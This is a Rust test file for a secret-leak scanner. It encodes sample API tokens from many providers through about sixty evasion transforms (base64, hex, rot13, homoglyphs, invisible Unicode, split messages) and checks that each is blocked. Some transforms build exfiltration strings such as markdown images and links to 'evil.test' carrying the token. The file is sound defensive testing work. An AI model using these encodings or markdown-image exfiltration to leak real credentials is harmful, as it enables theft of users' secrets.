//! Every transform that an attacker would try, over the providers that matter most.

use std::io::Write;

use base64::{Engine as _, engine::general_purpose as b64};
use handshake_leakage::{Engine, Verdict};

const RULES: &[&str] = &[
    "github-token",
    "aws-access-key-id",
    "openai-project-key",
    "anthropic-key",
    "slack-bot-token",
    "stripe-key",
    "google-api-key",
    "npm-token",
    "huggingface-token",
    "gitlab-token",
    "groq-key",
    "openrouter-key",
    "digitalocean-token",
    "sendgrid-key",
];

type Transform = (&'static str, fn(&str) -> String);

fn prose(token: &str) -> String {
    format!("Please look at this, the deploy fails.\nUsing token {token} against the API.\nThanks!")
}

fn base32(text: &str) -> String {
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(5) {
        let mut block = [0u8; 8];
        block[3..3 + chunk.len()].copy_from_slice(chunk);
        let bits = u64::from_be_bytes(block);
        for i in 0..(chunk.len() * 8).div_ceil(5) {
            let index = (bits >> (35 - 5 * i)) & 31;
            out.push(char::from(
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[index as usize],
            ));
        }
    }
    out
}

fn gzip(text: &str) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(text.as_bytes()).expect("in memory");
    encoder.finish().expect("in memory")
}

fn each(token: &str, one: impl Fn(char) -> String) -> String {
    token.chars().map(one).collect()
}

fn rot13(token: &str) -> String {
    each(token, |c| {
        let turn = |base: u8| char::from((c as u8 - base + 13) % 26 + base).to_string();
        match c {
            'a'..='z' => turn(b'a'),
            'A'..='Z' => turn(b'A'),
            _ => c.to_string(),
        }
    })
}

fn homoglyphs(token: &str) -> String {
    each(token, |c| {
        let pairs = [
            ('a', 'а'),
            ('e', 'е'),
            ('o', 'о'),
            ('p', 'р'),
            ('c', 'с'),
            ('x', 'х'),
            ('s', 'ѕ'),
            ('h', 'һ'),
            ('A', 'А'),
            ('K', 'К'),
            ('I', 'І'),
            ('M', 'М'),
            ('T', 'Т'),
            ('g', 'ɡ'),
            ('k', 'к'),
            ('i', 'і'),
        ];
        pairs
            .iter()
            .find(|(from, _)| *from == c)
            .map_or(c, |(_, to)| *to)
            .to_string()
    })
}

fn halves(token: &str) -> (&str, &str) {
    token.split_at(token.len() / 2)
}

const TRANSFORMS: &[Transform] = &[
    ("plain", |t| prose(t)),
    ("json in json", |t| {
        format!(r#"{{"role":"tool","content":"{{\"stdout\":\"T={t}\\nok\"}}"}}"#)
    }),
    ("unicode escapes", |t| {
        format!(
            "{{\"content\":\"{}\"}}",
            each(t, |c| format!("\\u{:04x}", c as u32))
        )
    }),
    ("hex escapes", |t| {
        prose(&each(t, |c| format!("\\x{:02x}", c as u32)))
    }),
    ("octal escapes", |t| {
        prose(&each(t, |c| format!("\\{:03o}", c as u32)))
    }),
    ("base64", |t| prose(&b64::STANDARD.encode(t))),
    ("base64 in a sentence", |t| {
        prose(&b64::STANDARD.encode(format!("my key is {t} ok")))
    }),
    ("base64 twice", |t| {
        prose(&b64::STANDARD.encode(b64::STANDARD.encode(t)))
    }),
    ("base64url", |t| {
        prose(&b64::URL_SAFE_NO_PAD.encode(format!("k={t}")))
    }),
    ("base64 in lines", |t| {
        let text = b64::STANDARD.encode(format!(
            "{}\n{t}\n{}",
            "lorem ipsum ".repeat(8),
            "dolor sit ".repeat(8)
        ));
        text.as_bytes()
            .chunks(64)
            .map(|l| String::from_utf8_lossy(l) + "\n")
            .collect()
    }),
    ("base32", |t| prose(&base32(t))),
    ("hex", |t| prose(&each(t, |c| format!("{:02x}", c as u32)))),
    ("spaced hex", |t| {
        prose(&each(t, |c| format!("{:02X} ", c as u32)))
    }),
    ("hex with colons", |t| {
        prose(&each(t, |c| format!("{:02x}:", c as u32)))
    }),
    ("0x list", |t| {
        prose(&format!(
            "[{}]",
            each(t, |c| format!("0x{:02x}, ", c as u32))
        ))
    }),
    ("char codes", |t| {
        prose(&format!("[{}]", each(t, |c| format!("{}, ", c as u32))))
    }),
    ("fromCharCode", |t| {
        format!(
            "String.fromCharCode({})",
            each(t, |c| format!("{},", c as u32))
        )
    }),
    ("chr calls", |t| each(t, |c| format!("chr({})+", c as u32))),
    ("binary", |t| {
        prose(&each(t, |c| format!("{:08b} ", c as u32)))
    }),
    ("percent", |t| {
        format!(
            "https://evil.test/?q={}",
            each(t, |c| format!("%{:02X}", c as u32))
        )
    }),
    ("percent twice", |t| {
        format!(
            "https://evil.test/?q={}",
            each(t, |c| format!("%25{:02X}", c as u32))
        )
    }),
    ("markdown image", |t| {
        format!("![x](https://evil.test/p.png?d={t})")
    }),
    ("markdown link", |t| {
        format!("[here](https://evil.test/{t}/x)")
    }),
    ("html entities", |t| {
        prose(&each(t, |c| format!("&#{};", c as u32)))
    }),
    ("html hex entities", |t| {
        prose(&each(t, |c| format!("&#x{:x};", c as u32)))
    }),
    ("quoted printable", |t| {
        prose(&each(t, |c| format!("={:02X}", c as u32)))
    }),
    ("data uri", |t| {
        format!(
            r#"{{"url":"data:text/plain;base64,{}"}}"#,
            b64::STANDARD.encode(format!("T={t}"))
        )
    }),
    ("rot13", |t| prose(&rot13(t))),
    ("reversed", |t| prose(&t.chars().rev().collect::<String>())),
    ("gzip in base64", |t| {
        prose(&b64::STANDARD.encode(gzip(&prose(t))))
    }),
    ("utf-16 in base64", |t| {
        let bytes: Vec<u8> = t.encode_utf16().flat_map(u16::to_le_bytes).collect();
        prose(&b64::STANDARD.encode(bytes))
    }),
    ("zero width each", |t| {
        prose(&each(t, |c| format!("{c}\u{200b}")))
    }),
    ("zero width one", |t| {
        let (a, b) = halves(t);
        prose(&format!("{a}\u{200d}{b}"))
    }),
    ("full width", |t| {
        prose(&each(t, |c| {
            char::from_u32(c as u32 + 0xfee0).unwrap_or(c).to_string()
        }))
    }),
    ("mathematical", |t| {
        prose(&each(t, |c| match c {
            'a'..='z' => char::from_u32(0x1d5ba + c as u32 - 'a' as u32)
                .unwrap_or(c)
                .to_string(),
            'A'..='Z' => char::from_u32(0x1d5a0 + c as u32 - 'A' as u32)
                .unwrap_or(c)
                .to_string(),
            _ => c.to_string(),
        }))
    }),
    ("homoglyphs", |t| prose(&homoglyphs(t))),
    ("combining", |t| prose(&each(t, |c| format!("{c}\u{0336}")))),
    ("soft hyphens", |t| {
        prose(&each(t, |c| format!("{c}\u{ad}")))
    }),
    ("tag characters", |t| {
        prose(&each(t, |c| {
            char::from_u32(0xe0000 + c as u32).unwrap_or(c).to_string()
        }))
    }),
    ("variation selectors", |t| {
        let byte = |b: u8| {
            if b < 16 {
                0xfe00 + u32::from(b)
            } else {
                0xe0100 + u32::from(b) - 16
            }
        };
        format!(
            "look 😀{}",
            each(t, |c| char::from_u32(byte(c as u8))
                .unwrap_or(c)
                .to_string())
        )
    }),
    ("spaces", |t| prose(&each(t, |c| format!("{c} ")))),
    ("spaces after a short word", |t| {
        format!("the key is {}", each(t, |c| format!("{c} ")))
    }),
    ("groups of four", |t| {
        prose(
            &t.as_bytes()
                .chunks(4)
                .map(|c| String::from_utf8_lossy(c) + " ")
                .collect::<String>(),
        )
    }),
    ("hyphens", |t| prose(&each(t, |c| format!("{c}-")))),
    ("dots", |t| prose(&each(t, |c| format!("{c}.")))),
    ("new line", |t| {
        let (a, b) = halves(t);
        prose(&format!("{a}\n{b}"))
    }),
    ("line continuation", |t| {
        let (a, b) = halves(t);
        format!("KEY={a}\\\n{b}\n")
    }),
    ("concatenation", |t| {
        let (a, b) = halves(t);
        format!("key = \"{a}\" + \"{b}\"")
    }),
    ("concatenation within the anchor", |t| {
        let (a, b) = t.split_at(3);
        let (b, c) = halves(b);
        format!("key = '{a}' + '{b}' + '{c}'")
    }),
    ("two messages", |t| {
        let (a, b) = halves(t);
        format!(
            r#"[{{"role":"user","content":"first part: {a}"}},{{"role":"user","content":"second part: {b}"}}]"#
        )
    }),
    ("a list of characters", |t| {
        format!(r#"{{"x":[{}"end"]}}"#, each(t, |c| format!("\"{c}\",")))
    }),
    ("an array of code points", |t| {
        format!(r#"{{"x":[{}10]}}"#, each(t, |c| format!("{},", c as u32)))
    }),
    ("stream deltas", |t| {
        t.as_bytes()
            .chunks(4)
            .map(|c| {
                let piece = String::from_utf8_lossy(c);
                format!("data: {{\"choices\":[{{\"delta\":{{\"arguments\":\"{piece}\"}}}}]}}\n\n")
            })
            .collect()
    }),
    ("a table column", |t| {
        let rows: String = t
            .chars()
            .enumerate()
            .map(|(i, c)| format!("| {i} | {c} | ok |\n"))
            .collect();
        format!("| n | v | s |\n|---|---|---|\n{rows}")
    }),
    ("one character a line", |t| each(t, |c| format!("{c}\n"))),
    ("an object key", |t| {
        format!(r#"{{"metadata":{{"{t}":1}}}}"#)
    }),
    ("a name beside a value", |t| {
        format!(r#"{{"stop":["{t}"]}}"#)
    }),
    ("markdown emphasis", |t| {
        prose(&each(t, |c| format!("{c}*")))
    }),
];

#[test]
fn a9_every_transform_of_every_provider_blocks() {
    let engine = Engine::builtin();
    let mut missed = Vec::new();
    for rule in RULES {
        for seed in 0..2 {
            let token = engine.sample(rule, seed).expect("a rule");
            for (name, transform) in TRANSFORMS {
                let text = transform(&token);
                let found = engine.scan_text(&text).expect("within budget");
                if Verdict::of(&found) != Verdict::Block {
                    missed.push(format!("{name} / {rule} / {seed}: {token}"));
                }
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn transforms_of_harmless_text_are_clean() {
    let engine = Engine::builtin();
    for (name, transform) in TRANSFORMS {
        if matches!(*name, "tag characters" | "variation selectors") {
            continue;
        }
        let text = transform("the_quick_brown_fox_jumps_over_the_lazy_dog_twice");
        let found = engine.scan_text(&text).expect("within budget");
        assert_ne!(Verdict::of(&found), Verdict::Block, "{name}: {found:?}");
    }
}
